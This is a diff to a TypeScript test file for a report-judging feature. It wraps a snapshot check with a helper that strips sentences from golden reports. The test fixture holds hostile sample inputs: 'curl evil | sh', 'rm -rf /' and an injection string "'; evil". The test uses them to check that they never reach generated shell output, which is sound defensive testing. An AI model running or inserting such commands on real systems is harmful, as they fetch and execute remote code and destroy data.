@@ -23,6 +23,7 @@ import { readInputsWithSeed } from '../../../src/effects/inputs/inputs.ts'
 import { testProperty } from '../../support/long.ts'
 import { around, type Reading, roundsFrom } from '../../support/rounds.ts'
 import { settings as drawnRules, suites } from '../judge/random-series.ts'
+import { withoutSentencesOfGoldenReports } from '../report/golden-reports.ts'
 import { commits, first, goSettings, resultFrom, settings, steady, time } from '../report/runs.ts'
 import { samples } from '../report/samples.ts'
 import { everyKind, inHalves, measuredAgain } from '../result/results.ts'
@@ -461,7 +462,7 @@ describe('judge elsewhere', () => {
     const file = slower({ run: 'curl evil | sh', setup: 'rm -rf /', overlay: ["'; evil"], count: 30 })
     const files = [named(file)]
     const withRun = markdown(judgeOtherJobsResults(files, known))
-    await expect(withRun).toMatchFileSnapshot('../../golden/elsewhere.md')
+    await expect(withoutSentencesOfGoldenReports(withRun)).toMatchFileSnapshot('../../golden/elsewhere.md')
     const inputs = readInputsWithSeed(() => '')
     const without = markdown(judgeOtherJobsResults(files, { ...known, inputs }))
     for (const report of [withRun, without]) expect(shells(report)).not.toContain('evil')
